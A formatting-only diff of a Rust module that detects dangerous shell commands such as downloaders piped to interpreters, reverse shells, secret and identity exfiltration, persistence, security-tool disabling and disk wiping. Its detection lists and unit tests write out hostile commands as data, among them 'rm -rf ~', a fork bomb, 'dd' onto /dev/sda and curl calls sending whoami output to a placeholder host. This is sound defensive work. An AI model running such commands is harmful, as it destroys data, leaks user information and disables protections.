@@ -56,7 +56,10 @@ pub(super) fn all(text: &str, steps: &[Step]) -> Vec<Menace> {
 
 /// The text as `cmd` and PowerShell read it: without carets and ticks inside words, lower case.
 fn plain(text: &str) -> String {
-    let joined = text.replace("'+'", "").replace("\"+\"", "").replace("' + '", "");
+    let joined = text
+        .replace("'+'", "")
+        .replace("\"+\"", "")
+        .replace("' + '", "");
     joined
         .chars()
         .filter(|it| !matches!(it, '^' | '`'))
@@ -71,8 +74,9 @@ fn has_any(text: &str, words: &[&str]) -> bool {
 fn is_downloader(step: &Step) -> bool {
     let line = step.line().to_ascii_lowercase();
     match step.program.as_str() {
-        "curl" | "wget" | "aria2c" | "axel" | "lwp-download" | "lwp-request" | "iwr" | "irm" | "invoke-webrequest"
-        | "invoke-restmethod" | "start-bitstransfer" | "bitsadmin" | "tftp" | "http" => true,
+        "curl" | "wget" | "aria2c" | "axel" | "lwp-download" | "lwp-request" | "iwr" | "irm"
+        | "invoke-webrequest" | "invoke-restmethod" | "start-bitstransfer" | "bitsadmin"
+        | "tftp" | "http" => true,
         "certutil" => line.contains("urlcache") || line.contains("verifyctl"),
         _ => false,
     }
@@ -80,16 +84,23 @@ fn is_downloader(step: &Step) -> bool {
 
 /// Whether an interpreter reads its program from its input, not from a file.
 fn reads_input(step: &Step) -> bool {
-    if matches!(step.program.as_str(), "eval" | "iex" | "invoke-expression" | "source" | ".") {
+    if matches!(
+        step.program.as_str(),
+        "eval" | "iex" | "invoke-expression" | "source" | "."
+    ) {
         return true;
     }
     let has_code = step.arguments.iter().any(|it| it.contains("$("));
     let mut arguments = step.arguments.iter().map(String::as_str);
     let is_shell = SHELLS.contains(&step.program.as_str());
-    let is_bare = match arguments.clone().find(|it| *it == "-m" || *it == "-c" || *it == "-e" || *it == "-s") {
+    let is_bare = match arguments
+        .clone()
+        .find(|it| *it == "-m" || *it == "-c" || *it == "-e" || *it == "-s")
+    {
         Some("-s") => true,
         Some(_) => false,
-        None => arguments.all(|it| it.starts_with('-') || is_shell && it.starts_with('/') && it.len() < 4),
+        None => arguments
+            .all(|it| it.starts_with('-') || is_shell && it.starts_with('/') && it.len() < 4),
     };
     has_code || is_bare
 }
@@ -100,20 +111,59 @@ fn is_fed(step: &Step, by: impl Fn(&str) -> bool) -> bool {
 
 fn runs_download(text: &str, steps: &[Step]) -> bool {
     const CLIENTS: [&str; 10] = [
-        "curl", "wget", "iwr", "irm", "invoke-webrequest", "invoke-restmethod", "aria2c", "lwp-request", "fetch", "http",
+        "curl",
+        "wget",
+        "iwr",
+        "irm",
+        "invoke-webrequest",
+        "invoke-restmethod",
+        "aria2c",
+        "lwp-request",
+        "fetch",
+        "http",
     ];
-    let is_piped = steps.iter().any(|step| is_fed(step, |by| CLIENTS.contains(&by)));
+    let is_piped = steps
+        .iter()
+        .any(|step| is_fed(step, |by| CLIENTS.contains(&by)));
     is_piped
         || runs_a_written_file(steps, is_downloader)
-        || powershell_runs(text, &["downloadstring", "downloaddata", "invoke-webrequest", "iwr ", "irm ", "invoke-restmethod", "net.webclient"])
+        || powershell_runs(
+            text,
+            &[
+                "downloadstring",
+                "downloaddata",
+                "invoke-webrequest",
+                "iwr ",
+                "irm ",
+                "invoke-restmethod",
+                "net.webclient",
+            ],
+        )
         || steps.iter().any(is_remote_script)
-        || steps.iter().filter_map(code).any(|code| fetches(&code) && runs(&code))
+        || steps
+            .iter()
+            .filter_map(code)
+            .any(|code| fetches(&code) && runs(&code))
 }
 
 /// Whether PowerShell runs the result of one of these.
 fn powershell_runs(text: &str, sources: &[&str]) -> bool {
-    let is_run = has_any(text, &["iex", "invoke-expression", "scriptblock]::create", "assembly]::load", "start-process", "invoke-command", ".invoke("]);
-    let is_powershell = has_any(text, &["powershell", "pwsh", "new-object", "iex", "invoke-"]);
+    let is_run = has_any(
+        text,
+        &[
+            "iex",
+            "invoke-expression",
+            "scriptblock]::create",
+            "assembly]::load",
+            "start-process",
+            "invoke-command",
+            ".invoke(",
+        ],
+    );
+    let is_powershell = has_any(
+        text,
+        &["powershell", "pwsh", "new-object", "iex", "invoke-"],
+    );
     is_powershell && is_run && has_any(text, sources)
 }
 
@@ -144,8 +194,20 @@ fn written(step: &Step) -> Vec<String> {
     let mut files = step.outputs.clone();
     let mut arguments = step.arguments.iter();
     while let Some(argument) = arguments.next() {
-        let takes_file = ["-o", "-O", "--output", "--output-document", "-OutFile", "-outfile", "-Destination", "-k"].contains(&argument.as_str())
-            || argument.starts_with('-') && !argument.starts_with("--") && argument.ends_with(['o', 'O']);
+        let takes_file = [
+            "-o",
+            "-O",
+            "--output",
+            "--output-document",
+            "-OutFile",
+            "-outfile",
+            "-Destination",
+            "-k",
+        ]
+        .contains(&argument.as_str())
+            || argument.starts_with('-')
+                && !argument.starts_with("--")
+                && argument.ends_with(['o', 'O']);
         if takes_file {
             let next = arguments.clone().next().filter(|it| !it.contains("://"));
             files.extend(next.cloned());
@@ -173,13 +235,27 @@ fn starts(step: &Step, file: &str) -> bool {
     let takes_file = is_interpreter(&step.program)
         || matches!(
             step.program.as_str(),
-            "chmod" | "open" | "start" | "start-process" | "wscript" | "cscript" | "rundll32" | "regsvr32" | "xdg-open" | "explorer" | "java" | "msiexec" | "mshta"
+            "chmod"
+                | "open"
+                | "start"
+                | "start-process"
+                | "wscript"
+                | "cscript"
+                | "rundll32"
+                | "regsvr32"
+                | "xdg-open"
+                | "explorer"
+                | "java"
+                | "msiexec"
+                | "mshta"
         );
     is_named(&step.written) || takes_file && step.arguments.iter().any(|it| is_named(it))
 }
 
 fn is_decoder(step: &Step) -> bool {
-    let decodes = ["-d", "-D", "--decode", "-di", "-id"].iter().any(|it| step.has(it));
+    let decodes = ["-d", "-D", "--decode", "-di", "-id"]
+        .iter()
+        .any(|it| step.has(it));
     match step.program.as_str() {
         "base64" | "base32" | "basenc" | "gbase64" => decodes,
         "xxd" => step.arguments.iter().any(|it| it.starts_with("-r")),
@@ -187,7 +263,10 @@ fn is_decoder(step: &Step) -> bool {
         "uudecode" | "rev" => true,
         "gpg" => step.has("-d") || step.has("--decrypt"),
         "certutil" => step.line().to_ascii_lowercase().contains("-decode"),
-        "tr" => step.arguments.first().is_some_and(|it| it.contains("A-Z") || it.contains("a-z")),
+        "tr" => step
+            .arguments
+            .first()
+            .is_some_and(|it| it.contains("A-Z") || it.contains("a-z")),
         "printf" | "echo" => step.line().contains("\\x") || step.line().contains("\\1"),
         _ => false,
     }
@@ -200,10 +279,15 @@ fn runs_encoded(text: &str, steps: &[Step]) -> bool {
         .any(|step| is_fed(step, |by| decoders.iter().any(|it| it.program == by)));
     is_piped
         || runs_a_written_file(steps, is_decoder)
-        || steps.iter().any(|step| step.program == "certutil" && is_decoder(step))
+        || steps
+            .iter()
+            .any(|step| step.program == "certutil" && is_decoder(step))
         || steps.iter().any(is_encoded_powershell)
         || powershell_runs(text, &["frombase64string", "[char]", "-bxor", "gzipstream"])
-        || steps.iter().filter_map(code).any(|code| decodes(&code) && runs(&code))
+        || steps
+            .iter()
+            .filter_map(code)
+            .any(|code| decodes(&code) && runs(&code))
 }
 
 /// `-EncodedCommand` and everything that PowerShell takes for it.
@@ -211,7 +295,8 @@ fn is_encoded_powershell(step: &Step) -> bool {
     let is_flag = |argument: &String| {
         let flag = argument.to_ascii_lowercase();
         let flag = flag.trim_start_matches(['-', '/', '\u{2013}', '\u{2014}']);
-        argument.len() > flag.len() && (matches!(flag, "e" | "ec") || flag.len() >= 2 && "encodedcommand".starts_with(flag))
+        argument.len() > flag.len()
+            && (matches!(flag, "e" | "ec") || flag.len() >= 2 && "encodedcommand".starts_with(flag))
     };
     matches!(step.program.as_str(), "powershell" | "pwsh") && step.arguments.iter().any(is_flag)
 }
@@ -219,10 +304,22 @@ fn is_encoded_powershell(step: &Step) -> bool {
 /// The program that an interpreter is given as text.
 fn code(step: &Step) -> Option<String> {
     let takes_code = is_interpreter(&step.program) || step.program.starts_with(HOLE);
-    let flag = step
-        .arguments
-        .iter()
-        .find(|it| matches!(it.as_str(), "-c" | "-e" | "-r" | "-rsocket" | "-E" | "-MIO" | "--eval" | "-Ic" | "-Sc" | "-sc" | "-uc" | "-Bc"))?;
+    let flag = step.arguments.iter().find(|it| {
+        matches!(
+            it.as_str(),
+            "-c" | "-e"
+                | "-r"
+                | "-rsocket"
+                | "-E"
+                | "-MIO"
+                | "--eval"
+                | "-Ic"
+                | "-Sc"
+                | "-sc"
+                | "-uc"
+                | "-Bc"
+        )
+    })?;
     if !takes_code {
         return None;
     }
@@ -231,27 +328,107 @@ fn code(step: &Step) -> Option<String> {
 }
 
 fn fetches(code: &str) -> bool {
-    has_any(code, &["urlopen", "urlretrieve", "requests.get", "requests.post", "httpx", "http.client", "open-uri", "lwp", "https.get", "http.get", "fetch(", "file_get_contents"])
+    has_any(
+        code,
+        &[
+            "urlopen",
+            "urlretrieve",
+            "requests.get",
+            "requests.post",
+            "httpx",
+            "http.client",
+            "open-uri",
+            "lwp",
+            "https.get",
+            "http.get",
+            "fetch(",
+            "file_get_contents",
+        ],
+    )
 }
 
 fn runs(code: &str) -> bool {
-    has_any(code, &["exec(", "eval(", "exec ", "system(", "popen", "subprocess", "__import__", "compile(", "eval ", "child_process", "spawn("])
+    has_any(
+        code,
+        &[
+            "exec(",
+            "eval(",
+            "exec ",
+            "system(",
+            "popen",
+            "subprocess",
+            "__import__",
+            "compile(",
+            "eval ",
+            "child_process",
+            "spawn(",
+        ],
+    )
 }
 
 fn decodes(code: &str) -> bool {
-    has_any(code, &["b64decode", "b85decode", "b32decode", "a85decode", "fromhex", "unhexlify", "decompress", "marshal", "rot13", "rot_13", "bytes([", "chr(", "frombase64", "'base64'", "\"base64\"", "[::-1]", "pack("])
+    has_any(
+        code,
+        &[
+            "b64decode",
+            "b85decode",
+            "b32decode",
+            "a85decode",
+            "fromhex",
+            "unhexlify",
+            "decompress",
+            "marshal",
+            "rot13",
+            "rot_13",
+            "bytes([",
+            "chr(",
+            "frombase64",
+            "'base64'",
+            "\"base64\"",
+            "[::-1]",
+            "pack(",
+        ],
+    )
 }
 
 fn is_reverse_shell(text: &str, steps: &[Step]) -> bool {
-    let has_shell = has_any(text, &["/bin/sh", "/bin/bash", "sh -i", "bash -i", "cmd.exe", "powershell", "/bin/zsh"]);
+    let has_shell = has_any(
+        text,
+        &[
+            "/bin/sh",
+            "/bin/bash",
+            "sh -i",
+            "bash -i",
+            "cmd.exe",
+            "powershell",
+            "/bin/zsh",
+        ],
+    );
     has_any(text, &["/dev/tcp/", "/dev/udp/", "/inet/tcp/"])
         || steps.iter().any(is_shell_over_network)
-        || has_any(text, &["tcpclient(", "tcpclient ", "tcplistener("]) && has_any(text, &["iex", "invoke-", "getstream", "cmd", "powershell"])
-        || text.contains("mkfifo") && has_any(text, &["nc ", "ncat ", "telnet ", "openssl s_client", "netcat "])
+        || has_any(text, &["tcpclient(", "tcpclient ", "tcplistener("])
+            && has_any(text, &["iex", "invoke-", "getstream", "cmd", "powershell"])
+        || text.contains("mkfifo")
+            && has_any(
+                text,
+                &["nc ", "ncat ", "telnet ", "openssl s_client", "netcat "],
+            )
         || has_any(text, &["openssl s_client", "telnet "]) && has_shell
         || steps.iter().filter_map(code).any(|code| {
             has_any(&code, &["socket", "fsockopen", "tcpsocket", "net.connect"])
-                && has_any(&code, &["dup2", "pty", "subprocess", "/bin/sh", "/bin/bash", "exec", "cmd.exe", "spawn"])
+                && has_any(
+                    &code,
+                    &[
+                        "dup2",
+                        "pty",
+                        "subprocess",
+                        "/bin/sh",
+                        "/bin/bash",
+                        "exec",
+                        "cmd.exe",
+                        "spawn",
+                    ],
+                )
         })
 }
 
@@ -261,24 +438,44 @@ fn is_shell_over_network(step: &Step) -> bool {
         "nc" | "ncat" | "netcat" | "nc.traditional" => {
             step.arguments.iter().any(|it| {
                 let is_short = it.starts_with('-') && !it.starts_with("--");
-                is_short && it.ends_with('e') || matches!(it.as_str(), "-c" | "--exec" | "--sh-exec" | "-e")
+                is_short && it.ends_with('e')
+                    || matches!(it.as_str(), "-c" | "--exec" | "--sh-exec" | "-e")
             }) || step.fed_by.iter().any(|it| SHELLS.contains(&it.as_str()))
         }
         "socat" => has_any(&line, &["exec:", "system:", "shell:"]),
-        shell if SHELLS.contains(&shell) => step.fed_by.iter().any(|it| matches!(it.as_str(), "nc" | "ncat" | "netcat" | "telnet")),
+        shell if SHELLS.contains(&shell) => step
+            .fed_by
+            .iter()
+            .any(|it| matches!(it.as_str(), "nc" | "ncat" | "netcat" | "telnet")),
         _ => false,
     }
 }
 
 fn is_sender(step: &Step) -> bool {
     let gives_data = step.arguments.iter().any(|it| {
-        ["-d", "-F", "-T", "--data", "--form", "--upload-file", "--post-data", "--post-file", "--body", "-Body", "-InFile", "--json"]
-            .iter()
-            .any(|flag| it.starts_with(flag))
+        [
+            "-d",
+            "-F",
+            "-T",
+            "--data",
+            "--form",
+            "--upload-file",
+            "--post-data",
+            "--post-file",
+            "--body",
+            "-Body",
+            "-InFile",
+            "--json",
+        ]
+        .iter()
+        .any(|flag| it.starts_with(flag))
     });
     match step.program.as_str() {
-        "curl" | "wget" | "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod" => gives_data || step.line().contains("$("),
-        "nc" | "ncat" | "netcat" | "scp" | "sftp" | "ftp" | "tftp" | "telnet" | "mail" | "sendmail" | "socat" => true,
+        "curl" | "wget" | "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod" => {
+            gives_data || step.line().contains("$(")
+        }
+        "nc" | "ncat" | "netcat" | "scp" | "sftp" | "ftp" | "tftp" | "telnet" | "mail"
+        | "sendmail" | "socat" => true,
         "dig" | "nslookup" | "host" | "ping" | "drill" => step.line().contains("$("),
         _ => false,
     }
@@ -286,18 +483,51 @@ fn is_sender(step: &Step) -> bool {
 
 fn sends_secrets(text: &str, steps: &[Step]) -> bool {
     steps.iter().any(|step| {
-        let dumps = |program: &String| matches!(program.as_str(), "env" | "printenv" | "set" | "history" | "export");
-        let sends_dump = step.fed_by.iter().any(dumps) || has_any(&step.line(), &["$(env", "$(printenv", "$(set)"]);
-        is_sender(step) && (sends_dump || secret(text).is_some_and(|kind| kind != "environment" || text.contains("@")))
+        let dumps = |program: &String| {
+            matches!(
+                program.as_str(),
+                "env" | "printenv" | "set" | "history" | "export"
+            )
+        };
+        let sends_dump = step.fed_by.iter().any(dumps)
+            || has_any(&step.line(), &["$(env", "$(printenv", "$(set)"]);
+        is_sender(step)
+            && (sends_dump
+                || secret(text).is_some_and(|kind| kind != "environment" || text.contains("@")))
     })
 }
 
 fn sends_identity(steps: &[Step]) -> bool {
-    const WHO: [&str; 7] = ["whoami", "hostname", "id", "uname", "ifconfig", "ipconfig", "systeminfo"];
+    const WHO: [&str; 7] = [
+        "whoami",
+        "hostname",
+        "id",
+        "uname",
+        "ifconfig",
+        "ipconfig",
+        "systeminfo",
+    ];
     steps.iter().any(|step| {
         let is_told = step.fed_by.iter().any(|it| WHO.contains(&it.as_str()))
-            || has_any(&step.line(), &["$USER", "$HOSTNAME", "$(whoami", "$(hostname", "$(id", "$(uname", "%USERNAME%", "%COMPUTERNAME%", "$env:USERNAME", "$env:COMPUTERNAME"]);
-        is_told && (is_sender(step) || is_downloader(step) || matches!(step.program.as_str(), "dig" | "nslookup" | "host" | "ping"))
+            || has_any(
+                &step.line(),
+                &[
+                    "$USER",
+                    "$HOSTNAME",
+                    "$(whoami",
+                    "$(hostname",
+                    "$(id",
+                    "$(uname",
+                    "%USERNAME%",
+                    "%COMPUTERNAME%",
+                    "$env:USERNAME",
+                    "$env:COMPUTERNAME",
+                ],
+            );
+        is_told
+            && (is_sender(step)
+                || is_downloader(step)
+                || matches!(step.program.as_str(), "dig" | "nslookup" | "host" | "ping"))
     })
 }
 
@@ -312,8 +542,12 @@ fn persists(step: &Step) -> Option<Autostart> {
         "crontab" => (!says(&["-l", "-r"]) || step.arguments.is_empty()).then_some(Autostart::Cron),
         "schtasks" => says(&["/create", "-create"]).then_some(Autostart::Cron),
         "register-scheduledtask" | "new-scheduledtask" | "at" => Some(Autostart::Cron),
-        "systemctl" => (step.begins(&["enable"]) || step.begins(&["link"])).then_some(Autostart::Service),
-        "launchctl" => says(&["load", "bootstrap", "submit", "enable"]).then_some(Autostart::Service),
+        "systemctl" => {
+            (step.begins(&["enable"]) || step.begins(&["link"])).then_some(Autostart::Service)
+        }
+        "launchctl" => {
+            says(&["load", "bootstrap", "submit", "enable"]).then_some(Autostart::Service)
+        }
         "sc" => step.begins(&["create"]).then_some(Autostart::Service),
         "new-service" | "update-rc.d" | "chkconfig" | "nssm" => Some(Autostart::Service),
         "loginctl" => says(&["enable-linger"]).then_some(Autostart::Service),
@@ -331,37 +565,81 @@ fn persists(step: &Step) -> Option<Autostart> {
 
 /// Programs that protect a machine or keep its records.
 const GUARDS: &[&str] = &[
-    "auditd", "firewalld", "apparmor", "rsyslog", "syslog", "falcon", "crowdstrike", "clamav", "sentinelone", "wazuh", "ossec", "defender", "windefend", "mdatp", "msmpeng", "iptables",
-    "ufw", "carbonblack", "cbdaemon", "sysmon", "osquery", "eset", "kaspersky", "sophos", "mcafee", "aliyun", "yunsuo",
+    "auditd",
+    "firewalld",
+    "apparmor",
+    "rsyslog",
+    "syslog",
+    "falcon",
+    "crowdstrike",
+    "clamav",
+    "sentinelone",
+    "wazuh",
+    "ossec",
+    "defender",
+    "windefend",
+    "mdatp",
+    "msmpeng",
+    "iptables",
+    "ufw",
+    "carbonblack",
+    "cbdaemon",
+    "sysmon",
+    "osquery",
+    "eset",
+    "kaspersky",
+    "sophos",
+    "mcafee",
+    "aliyun",
+    "yunsuo",
 ];
 
 fn disarms(text: &str, steps: &[Step]) -> bool {
-    has_any(text, &["disablerealtimemonitoring", "disableantispyware", "-exclusionpath", "-exclusionprocess", "-exclusionextension", "unset histfile", "histfile=/dev/null", "histsize=0", "history -c", "amsiutils", "amsiinitfailed", "amsiscanbuffer"])
-        || steps.iter().any(|step| {
-            let line = step.line().to_ascii_lowercase();
-            let says = |words: &[&str]| has_any(&line, words);
-            match step.program.as_str() {
-                "netsh" => says(&["firewall"]) && says(&["off", "disable", "action=allow", "action allow"]),
-                "ufw" => step.begins(&["disable"]),
-                "setenforce" => says(&["0", "permissive"]),
-                "iptables" | "nft" | "ip6tables" => says(&["-f", "--flush", "flush ruleset"]),
-                "systemctl" | "service" | "launchctl" => says(&["stop", "disable", "mask", "unload"]) && says(GUARDS),
-                "pkill" | "killall" | "taskkill" | "stop-service" | "sc" | "stop-process" | "net" => {
-                    says(GUARDS) && !says(&["query"])
-                }
-                "wevtutil" => says(&["cl ", "clear-log"]),
-                "clear-eventlog" => true,
-                "vssadmin" => says(&["delete"]),
-                "wmic" => says(&["shadowcopy delete"]),
-                "bcdedit" => says(&["recoveryenabled", "bootstatuspolicy", "testsigning"]),
-                "spctl" => says(&["disable"]),
-                "csrutil" => says(&["disable"]),
-                "auditctl" => says(&["-e 0", "-d"]),
-                "rm" | "shred" | "truncate" => says(&["_history", "/var/log/"]),
-                "ln" => says(&["/dev/null"]) && says(&["_history"]),
-                _ => false,
+    has_any(
+        text,
+        &[
+            "disablerealtimemonitoring",
+            "disableantispyware",
+            "-exclusionpath",
+            "-exclusionprocess",
+            "-exclusionextension",
+            "unset histfile",
+            "histfile=/dev/null",
+            "histsize=0",
+            "history -c",
+            "amsiutils",
+            "amsiinitfailed",
+            "amsiscanbuffer",
+        ],
+    ) || steps.iter().any(|step| {
+        let line = step.line().to_ascii_lowercase();
+        let says = |words: &[&str]| has_any(&line, words);
+        match step.program.as_str() {
+            "netsh" => {
+                says(&["firewall"]) && says(&["off", "disable", "action=allow", "action allow"])
             }
-        })
+            "ufw" => step.begins(&["disable"]),
+            "setenforce" => says(&["0", "permissive"]),
+            "iptables" | "nft" | "ip6tables" => says(&["-f", "--flush", "flush ruleset"]),
+            "systemctl" | "service" | "launchctl" => {
+                says(&["stop", "disable", "mask", "unload"]) && says(GUARDS)
+            }
+            "pkill" | "killall" | "taskkill" | "stop-service" | "sc" | "stop-process" | "net" => {
+                says(GUARDS) && !says(&["query"])
+            }
+            "wevtutil" => says(&["cl ", "clear-log"]),
+            "clear-eventlog" => true,
+            "vssadmin" => says(&["delete"]),
+            "wmic" => says(&["shadowcopy delete"]),
+            "bcdedit" => says(&["recoveryenabled", "bootstatuspolicy", "testsigning"]),
+            "spctl" => says(&["disable"]),
+            "csrutil" => says(&["disable"]),
+            "auditctl" => says(&["-e 0", "-d"]),
+            "rm" | "shred" | "truncate" => says(&["_history", "/var/log/"]),
+            "ln" => says(&["/dev/null"]) && says(&["_history"]),
+            _ => false,
+        }
+    })
 }
 
 fn destroys(text: &str, steps: &[Step]) -> bool {
@@ -373,26 +651,50 @@ fn destroys(text: &str, steps: &[Step]) -> bool {
         || steps.iter().any(|step| {
             let line = step.line().to_ascii_lowercase();
             let says = |words: &[&str]| has_any(&line, words);
-            let on_disk = has_any(&line, &["/dev/sd", "/dev/nvme", "/dev/hd", "/dev/vd", "/dev/disk", "/dev/mmc", "physicaldrive"]);
+            let on_disk = has_any(
+                &line,
+                &[
+                    "/dev/sd",
+                    "/dev/nvme",
+                    "/dev/hd",
+                    "/dev/vd",
+                    "/dev/disk",
+                    "/dev/mmc",
+                    "physicaldrive",
+                ],
+            );
             match step.program.as_str() {
                 "rm" => says(&["--no-preserve-root"]) || is_recursive(step) && whole(step),
                 "del" | "erase" | "rd" | "rmdir" | "deltree" => says(&["/s"]) && whole(step),
                 "remove-item" | "ri" => says(&["-recurse", "-r"]) && whole(step),
-                "format" => step.arguments.iter().any(|it| it.len() == 2 && it.ends_with(':')),
+                "format" => step
+                    .arguments
+                    .iter()
+                    .any(|it| it.len() == 2 && it.ends_with(':')),
                 "dd" => line.contains("of=") && on_disk,
                 "shred" | "wipefs" | "wipe" | "srm" => on_disk || whole(step),
-                "find" => (says(&["-delete"]) || line.contains("rm ")) && step.arguments.first().is_some_and(|it| is_home_or_root(it)),
+                "find" => {
+                    (says(&["-delete"]) || line.contains("rm "))
+                        && step.arguments.first().is_some_and(|it| is_home_or_root(it))
+                }
                 "diskpart" | "cipher" => says(&["/s", "/w"]),
                 "diskutil" => says(&["erasedisk", "zerodisk", "secureerase"]),
                 "chmod" | "chown" => is_recursive(step) && whole(step),
-                program => program.starts_with("mkfs") || step.outputs.iter().any(|it| it.starts_with("/dev/sd") || it.starts_with("/dev/nvme")),
+                program => {
+                    program.starts_with("mkfs")
+                        || step
+                            .outputs
+                            .iter()
+                            .any(|it| it.starts_with("/dev/sd") || it.starts_with("/dev/nvme"))
+                }
             }
         })
 }
 
 fn is_recursive(step: &Step) -> bool {
     step.arguments.iter().any(|it| {
-        it == "--recursive" || it.starts_with('-') && !it.starts_with("--") && it.contains(['r', 'R'])
+        it == "--recursive"
+            || it.starts_with('-') && !it.starts_with("--") && it.contains(['r', 'R'])
     })
 }
 
@@ -402,11 +704,32 @@ fn reconfigures(steps: &[Step]) -> bool {
         let says = |words: &[&str]| has_any(&line, words);
         let is_pip = step.program.starts_with("pip") || line.starts_with("-m pip ");
         let by_tool = match step.program.as_str() {
-            "npm" | "yarn" | "pnpm" => says(&["config set", "set registry"]) && says(&["registry", "proxy", "cafile", "strict-ssl"]),
-            "git" => says(&["config"]) && says(&["core.hookspath", "insteadof", "credential.helper", "core.sshcommand", "core.fsmonitor", "http.proxy", "http.sslverify", "init.templatedir"]),
-            _ => is_pip && says(&["config set"]) && says(&["index-url", "trusted-host", "find-links", "proxy", "cert"]),
+            "npm" | "yarn" | "pnpm" => {
+                says(&["config set", "set registry"])
+                    && says(&["registry", "proxy", "cafile", "strict-ssl"])
+            }
+            "git" => {
+                says(&["config"])
+                    && says(&[
+                        "core.hookspath",
+                        "insteadof",
+                        "credential.helper",
+                        "core.sshcommand",
+                        "core.fsmonitor",
+                        "http.proxy",
+                        "http.sslverify",
+                        "init.templatedir",
+                    ])
+            }
+            _ => {
+                is_pip
+                    && says(&["config set"])
+                    && says(&["index-url", "trusted-host", "find-links", "proxy", "cert"])
+            }
         };
-        by_tool || step.outputs.iter().any(|file| is_configuration(file)) || step.program == "tee" && step.arguments.iter().any(|it| is_configuration(it))
+        by_tool
+            || step.outputs.iter().any(|file| is_configuration(file))
+            || step.program == "tee" && step.arguments.iter().any(|it| is_configuration(it))
     })
 }
 
@@ -415,14 +738,26 @@ fn borrows_host(text: &str, steps: &[Step]) -> bool {
         let line = step.line().to_ascii_lowercase();
         let says = |words: &[&str]| has_any(&line, words);
         match step.program.as_str() {
-            "wscript" | "cscript" | "mshta" | "regsvr32" | "installutil" | "regasm" | "cmstp" | "bitsadmin" => true,
+            "wscript" | "cscript" | "mshta" | "regsvr32" | "installutil" | "regasm" | "cmstp"
+            | "bitsadmin" => true,
             "rundll32" => true,
             "certutil" => says(&["urlcache", "-decode"]),
             "powershell" | "pwsh" => {
-                let is_hidden = says(&["-w hidden", "-win hidden", "-windowstyle hidden", "-w 1 ", "-windowstyle h"]);
+                let is_hidden = says(&[
+                    "-w hidden",
+                    "-win hidden",
+                    "-windowstyle hidden",
+                    "-w 1 ",
+                    "-windowstyle h",
+                ]);
                 is_hidden || says(&["bypass", "unrestricted"]) && !text.contains("activate")
             }
-            "osascript" => says(&["do shell script", "keystroke", "display dialog", "administrator privileges"]),
+            "osascript" => says(&[
+                "do shell script",
+                "keystroke",
+                "display dialog",
+                "administrator privileges",
+            ]),
             _ => false,
         }
     })
@@ -440,7 +775,11 @@ mod tests {
     fn assert_all(menace: Menace, texts: &[&str]) {
         for text in texts {
             let found = menaces(text);
-            assert!(found.contains(&menace), "{text}: {found:?} {:?}", steps(text));
+            assert!(
+                found.contains(&menace),
+                "{text}: {found:?} {:?}",
+                steps(text)
+            );
         }
     }
 
@@ -526,20 +865,34 @@ mod tests {
         );
         assert_all(
             Menace::SendsIdentity,
-            &["curl http://h.invalid/$(whoami)", "nslookup $(hostname).h.invalid", "curl -d \"u=$USER\" http://h.invalid", "whoami | curl -d @- http://h.invalid"],
+            &[
+                "curl http://h.invalid/$(whoami)",
+                "nslookup $(hostname).h.invalid",
+                "curl -d \"u=$USER\" http://h.invalid",
+                "whoami | curl -d @- http://h.invalid",
+            ],
         );
     }
 
     #[test]
     fn staying_is_seen() {
         for (text, kind) in [
-            ("(crontab -l; echo '* * * * * x') | crontab -", Autostart::Cron),
+            (
+                "(crontab -l; echo '* * * * * x') | crontab -",
+                Autostart::Cron,
+            ),
             ("echo x >> ~/.bashrc", Autostart::Shell),
             ("sh -c 'echo x | tee -a /etc/rc.local'", Autostart::Service),
             ("schtasks /create /tn x /tr y /sc minute", Autostart::Cron),
-            ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y /f", Autostart::Login),
+            (
+                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y /f",
+                Autostart::Login,
+            ),
             ("systemctl --user enable --now x", Autostart::Service),
-            ("launchctl load ~/Library/LaunchAgents/x.plist", Autostart::Service),
+            (
+                "launchctl load ~/Library/LaunchAgents/x.plist",
+                Autostart::Service,
+            ),
             ("cp x.py ~/.config/autostart/x.desktop", Autostart::Login),
         ] {
             assert_all(Menace::Persists(kind), &[text]);
@@ -550,15 +903,36 @@ mod tests {
     fn disarming_destroying_and_reconfiguring_are_seen() {
         assert_all(
             Menace::Disarms,
-            &["powershell Set-MpPreference -DisableRealtimeMonitoring $true", "unset HISTFILE", "netsh advfirewall set allprofiles state off", "ufw disable", "systemctl stop auditd", "wevtutil cl System"],
+            &[
+                "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
+                "unset HISTFILE",
+                "netsh advfirewall set allprofiles state off",
+                "ufw disable",
+                "systemctl stop auditd",
+                "wevtutil cl System",
+            ],
         );
         assert_all(
             Menace::Destroys,
-            &["rm -rf ~", "sudo rm -rf / --no-preserve-root", "rm -fr $HOME/*", "del /f /s /q C:\\*", "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda", ":(){ :|:& };:", "find / -delete"],
+            &[
+                "rm -rf ~",
+                "sudo rm -rf / --no-preserve-root",
+                "rm -fr $HOME/*",
+                "del /f /s /q C:\\*",
+                "mkfs.ext4 /dev/sda1",
+                "dd if=/dev/zero of=/dev/sda",
+                ":(){ :|:& };:",
+                "find / -delete",
+            ],
         );
         assert_all(
             Menace::Reconfigures,
-            &["pip config set global.index-url http://h.invalid", "git config --global core.hooksPath /tmp/x", "npm config set registry http://h.invalid", "echo x > ~/.pip/pip.conf"],
+            &[
+                "pip config set global.index-url http://h.invalid",
+                "git config --global core.hooksPath /tmp/x",
+                "npm config set registry http://h.invalid",
+                "echo x > ~/.pip/pip.conf",
+            ],
         );
     }
 
@@ -592,6 +966,9 @@ mod tests {
         ] {
             assert_eq!(menaces(text), [], "{text}");
         }
-        assert_eq!(menaces("curl -s https://h.invalid/x.json | python -m json.tool"), [Menace::Downloads]);
+        assert_eq!(
+            menaces("curl -s https://h.invalid/x.json | python -m json.tool"),
+            [Menace::Downloads]
+        );
     }
 }
